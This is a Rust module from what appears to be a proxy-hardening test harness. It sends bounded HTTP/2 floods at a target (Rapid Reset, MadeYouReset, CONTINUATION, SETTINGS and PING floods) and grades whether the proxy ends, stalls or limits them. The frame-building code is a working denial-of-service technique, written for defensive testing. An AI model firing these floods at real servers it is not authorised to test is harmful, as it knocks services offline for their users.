//! Too much of something on one HTTP/2 connection (ATK-10). A proxy withstands it that ends the connection, stops reading,
//! or lets no more than a bounded part of it reach the app, while a neighbour is served.
//!
//! Invariant: a flood is as large as it needs to be told from ordinary use, and ends by itself.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, timeout};

use crate::DrillError;
use crate::card::{Outcome, Verdict};
use crate::cases::list;
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, Frames, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame,
};
use crate::target::Options;

/// Streams that are opened to be reset.
const STREAMS: u32 = 4000;
/// Of these, the most that may reach the app before the proxy has had enough.
const MOST_AT_THE_APP: usize = 1500;
/// Bytes of a header block that never ends, and of frames nobody needs.
const FLOOD_BYTES: usize = 24 * 1024 * 1024;
/// Of a header block that never ends: more than the buffers of two kernels hold, so that a proxy that stopped reading shows.
const BLOCK_BYTES: usize = 20 * 1024 * 1024;
/// A proxy that takes nothing for so long has stopped reading.
const STALLED: Duration = Duration::from_secs(2);
/// How long a flood lasts at most.
const FLOOD_LIMIT: Duration = Duration::from_secs(15);

/// Which.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Flood {
    Continuation,
    MadeYouReset,
    Ping,
    RapidReset,
    Settings,
}

/// How the proxy took it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Taken {
    /// It ended the connection after so many bytes.
    Ended(usize),
    /// It stopped reading after so many.
    Stalled(usize),
    /// It took all.
    Whole(usize),
}

/// Plays it; `None` if the proxy does not speak HTTP/2 after all.
pub(crate) async fn play(flood: Flood, options: &Options, marker: &str) -> Result<Option<Taken>, DrillError> {
    let Some(client) = Frames::connect(&options.target).await? else { return Ok(None) };
    let mut fields = list(options, b"GET", options.allow_path.as_bytes(), options.target.authority.as_bytes());
    fields.push((b"x-drill".to_vec(), marker.as_bytes().to_vec()));
    let reads = matches!(flood, Flood::RapidReset | Flood::MadeYouReset | Flood::Continuation);
    let (mut reader, mut writer) = tokio::io::split(client.stream);
    let ended = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let noted = std::sync::Arc::clone(&ended);
    let reading = reads.then(|| {
        tokio::spawn(async move {
            let mut buffer = vec![0; 64 * 1024];
            while !matches!(reader.read(&mut buffer).await, Ok(0) | Err(_)) {}
            noted.store(true, std::sync::atomic::Ordering::Relaxed);
        })
    });
    let block = block(&fields);
    let begun = Instant::now();
    let mut written = 0;
    let mut taken = None;
    for number in 0.. {
        let Some(piece) = piece(flood, number, written, &block) else { break };
        let is_over = begun.elapsed() > FLOOD_LIMIT || ended.load(std::sync::atomic::Ordering::Relaxed);
        let wrote = match is_over {
            true => Ok(Err(std::io::ErrorKind::BrokenPipe.into())),
            false => {
                timeout(STALLED, async {
                    writer.write_all(&piece).await?;
                    writer.flush().await
                })
                .await
            }
        };
        match wrote {
            Err(_) => taken = Some(Taken::Stalled(written)),
            Ok(Err(_)) if begun.elapsed() > FLOOD_LIMIT => taken = Some(Taken::Whole(written)),
            Ok(Err(_)) => taken = Some(Taken::Ended(written)),
            Ok(Ok(())) => written += piece.len(),
        }
        if taken.is_some() {
            break;
        }
    }
    // What is still in flight may be what ends it.
    let mut waited = 0;
    while reads && taken.is_none() && waited < 20 && !ended.load(std::sync::atomic::Ordering::Relaxed) {
        tokio::time::sleep(Duration::from_millis(25)).await;
        waited += 1;
    }
    if taken.is_none() && ended.load(std::sync::atomic::Ordering::Relaxed) {
        taken = Some(Taken::Ended(written));
    }
    if let Some(reading) = reading {
        reading.abort();
    }
    Ok(Some(taken.unwrap_or(Taken::Whole(written))))
}

/// The next bytes; `None` once it is enough.
fn piece(flood: Flood, number: u32, written: usize, block: &[u8]) -> Option<Vec<u8>> {
    let stream = number * 2 + 1;
    match flood {
        Flood::RapidReset if number < STREAMS => {
            let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
            Some([open, frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat())
        }
        // A window update of nothing is a stream error (RFC 9113 §6.9): the server resets, the request runs on.
        Flood::MadeYouReset if number < STREAMS => {
            let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
            Some([open, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat())
        }
        Flood::Continuation if number == 0 => Some(frame(HEADERS, END_STREAM, 1, block)),
        Flood::Continuation if written < BLOCK_BYTES => {
            let field = (format!("x-{number}").into_bytes(), vec![b'a'; 4000]);
            Some(frame(CONTINUATION, 0, 1, &crate::frames::block(&[field])))
        }
        Flood::Settings if written < FLOOD_BYTES => Some(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(1000)),
        Flood::Ping if written < FLOOD_BYTES => Some(frame(PING, 0, 0, &[7; 8]).repeat(1000)),
        _ => None,
    }
}

/// The verdict: `at_the_app` requests of the flood reached the app.
pub(crate) fn judge(flood: Flood, taken: Taken, at_the_app: usize) -> Verdict {
    let is_of_streams = matches!(flood, Flood::RapidReset | Flood::MadeYouReset);
    match taken {
        Taken::Ended(bytes) => Verdict::of(Outcome::Refused, format!("the connection was ended after {bytes} bytes")),
        Taken::Stalled(bytes) => Verdict::of(Outcome::Refused, format!("the proxy read no more than {bytes} bytes")),
        Taken::Whole(bytes) if is_of_streams && at_the_app <= MOST_AT_THE_APP => Verdict::of(
            Outcome::Normalised,
            format!("{at_the_app} requests of {STREAMS} reached the app, {bytes} bytes"),
        ),
        Taken::Whole(bytes) => {
            let seen = format!("all {bytes} bytes were taken, {at_the_app} requests of it reached the app");
            Verdict::of(Outcome::Unbounded, seen)
        }
    }
}
